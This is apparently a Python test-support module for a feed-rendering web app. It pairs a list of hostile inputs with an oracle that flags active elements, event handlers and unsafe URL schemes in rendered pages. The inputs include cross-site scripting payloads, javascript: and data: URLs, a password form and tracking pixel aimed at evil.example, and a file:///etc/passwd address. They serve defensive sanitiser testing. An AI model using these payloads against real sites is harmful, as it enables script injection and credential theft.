"""Text that a hostile feed would send, and the oracle that finds what of it became active in a page."""

from __future__ import annotations

from urllib.parse import urlsplit

from lxml import html

#: What no page of ours ever holds, whatever feeds say.
FORBIDDEN_ELEMENTS = frozenset(
    {"iframe", "object", "embed", "base", "svg", "math", "style", "img", "audio", "video", "source", "applet"}
)

_FORBIDDEN_ATTRIBUTES = frozenset({"srcdoc", "formaction", "xlink:href", "style", "autofocus"})

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></textarea></script><svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><form><input type=password></form></mtext></math>",
    "<form action=//evil.example><input name=password type=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='position:fixed;inset:0'>",
    "<img src='//evil.example/pixel.gif' width=1 height=1>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "<!--<img src='--><img src=x onerror=alert(1)//>",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVa\nScRiPt:alert(1)",
    "&#106;avascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/x",
    "http://",
    "https://user:secret@evil.example/",
    "http://evil.example/\"onmouseover='alert(1)'",
    "ftp://evil.example/x",
)


def active_parts(page: bytes | str) -> list[str]:
    """Give everything in a page that would act: elements, handlers, styles, addresses. Our own script is expected."""
    found: list[str] = []
    for element in html.document_fromstring(page).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in FORBIDDEN_ELEMENTS:
            found.append(f"<{element.tag}>")
        if element.tag == "script" and (element.get("src") != "/static/page.js" or element.text):
            found.append("<script>")
        if element.tag == "link" and not element.get("href", "").startswith(("/static/", "/alerts.")):
            found.append("<link>")
        if element.tag == "meta" and element.get("http-equiv"):
            found.append("<meta http-equiv>")
        if element.tag in ("form", "button") and not (element.get("action") or "/").startswith("/"):
            found.append("<form>")
        if element.tag == "input":
            found.append("<input>")
        for name, value in element.attrib.items():
            if str(name).lower().startswith("on") or str(name).lower() in _FORBIDDEN_ATTRIBUTES:
                found.append(str(name))
            if name in ("href", "src", "action") and urlsplit(str(value).strip()).scheme not in ("", "http", "https"):
                found.append(str(name))
    return found


def text_of(page: bytes | str) -> str:
    """Give the text that a reader sees."""
    return "".join(str(part) for part in html.document_fromstring(page).itertext())
